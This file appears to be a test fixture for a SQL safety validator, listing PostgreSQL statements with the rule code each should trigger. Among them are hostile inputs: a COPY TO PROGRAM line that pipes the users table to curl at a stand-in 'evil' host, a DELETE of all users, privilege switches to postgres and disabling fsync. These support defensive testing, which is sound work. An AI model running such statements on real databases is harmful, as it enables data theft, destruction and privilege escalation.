-- expect: V004
DO $$ BEGIN PERFORM pg_sleep(10); END $$

-- expect: V004
DO LANGUAGE plpgsql 'BEGIN DELETE FROM users; END'

-- expect: V004
CALL cleanup()

-- expect: V004
COPY users TO '/tmp/users.csv'

-- expect: V004
COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil'

-- expect: V004
COPY users FROM STDIN

-- expect: V004
SET search_path = pg_catalog

-- expect: V004
SET LOCAL statement_timeout = 0

-- expect: V004
SET SESSION AUTHORIZATION postgres

-- expect: V004
SET ROLE postgres

-- expect: V004
RESET ALL

-- expect: V004
SHOW data_directory

-- expect: V004
PREPARE p AS DELETE FROM users

-- expect: V004
PREPARE q AS SELECT 1

-- expect: V004
EXECUTE p

-- expect: V004
DEALLOCATE ALL

-- expect: V004
LISTEN chan

-- expect: V004
UNLISTEN *

-- expect: V004
NOTIFY chan, 'payload'

-- expect: V004
DECLARE c CURSOR FOR SELECT * FROM users

-- expect: V004
FETCH ALL FROM c

-- expect: V004
DISCARD ALL

-- expect: V004
LOAD 'plpgsql'

-- expect: V004
CHECKPOINT

-- expect: V004
REFRESH MATERIALIZED VIEW mv

-- expect: V006
CREATE TEMP TABLE t AS SELECT 1

-- expect: V004
ANALYZE users

-- expect: V004
CLUSTER users

-- expect: V004
REINDEX TABLE users

-- expect: V004
COMMENT ON TABLE users IS 'x'

-- expect: V004
SECURITY LABEL ON TABLE users IS 'x'

-- expect: V004
ALTER SYSTEM SET fsync = off

-- expect: V004
CREATE EXTENSION dblink

-- expect: V004
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
